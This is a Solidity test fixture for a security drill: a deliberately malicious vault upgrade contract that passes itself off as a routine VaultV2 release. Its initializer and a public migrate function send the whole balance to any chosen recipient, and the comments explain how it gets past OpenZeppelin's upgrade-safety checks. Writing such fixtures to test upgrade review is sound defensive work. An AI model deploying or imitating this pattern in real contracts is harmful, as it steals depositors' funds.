// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {VaultV2} from "./VaultV2.sol";

/// @title VaultV3Malicious
/// @notice FOR DRILLS ONLY. Looks like a routine upgrade of VaultV2 (same layout, a reinitializer,
/// version 3) but its `initializeV3` sends every wei to `recipient`, and `migrate` lets anyone do
/// the same later. Used to prove that a malicious proposal is caught (codehash review, guardian
/// cancel) before it reaches a proxy.
/// @dev Trust model: none; this contract is the attacker.
contract VaultV3Malicious is VaultV2 {
    /// @notice "Migration" hook run through upgradeToAndCall: re-affirms the owner as VaultV2's
    /// `initializeV2` does (so the release passes OpenZeppelin's upgrade-safety validation and looks
    /// routine), then drains the vault to `recipient`. Anyone may call it, once per proxy (not on the
    /// implementation itself).
    /// @custom:oz-upgrades-validate-as-initializer
    function initializeV3(address recipient) external reinitializer(3) {
        __Ownable_init(owner());
        _drain(recipient);
    }

    /// @notice Anyone can drain the vault to `recipient`.
    function migrate(address recipient) external {
        _drain(recipient);
    }

    /// @inheritdoc VaultV2
    function version() external pure override returns (uint256) {
        return 3;
    }

    function _drain(address recipient) private {
        uint256 amount = address(this).balance;
        emit Swept(recipient, amount);
        _send(recipient, amount);
    }
}
